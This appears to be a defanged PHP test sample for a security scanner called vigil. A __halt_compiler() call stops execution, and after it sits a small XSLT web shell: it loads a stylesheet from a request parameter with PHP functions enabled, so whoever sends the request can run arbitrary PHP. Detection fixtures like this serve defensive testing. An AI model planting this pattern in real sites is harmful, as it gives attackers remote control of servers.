<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
function xform($sheet, $data)
{
	$p = new XSLTProcessor();
	$p->registerPHPFunctions();
	$p->importStylesheet($sheet);
	return $p->transformToXML($data);
}
$s = new DOMDocument();
$s->loadXML($_REQUEST['s']);
echo xform($s, $s);
